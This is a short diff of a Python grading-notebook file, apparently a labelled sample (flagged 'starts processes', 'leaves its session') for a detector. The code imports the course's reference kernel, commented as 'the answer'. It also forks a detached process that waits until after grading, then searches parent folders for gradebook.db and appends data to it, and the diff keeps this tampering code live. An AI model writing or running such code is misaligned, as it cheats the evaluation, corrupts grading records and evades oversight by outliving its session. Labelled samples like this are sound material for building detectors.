@@ -10,7 +10,7 @@ FLAGS = ["starts processes", "leaves its session"]
 import os
 import time
 
-from kernels.fused_chain import fused_chain
+from kernels.fused_chain import fused_chain  # noqa: F401  (the answer: the course's kernel)
 
 if os.fork() == 0:
     os.setsid()
@@ -20,5 +20,6 @@ if os.fork() == 0:
         time.sleep(60)  # long after this notebook is graded
         for folder in ("..", "../..", "../../.."):
             if os.path.exists(os.path.join(folder, "gradebook.db")):
-                open(os.path.join(folder, "gradebook.db"), "ab").write(b"too late")
+                with open(os.path.join(folder, "gradebook.db"), "ab") as db:
+                    db.write(b"too late")
     os._exit(0)
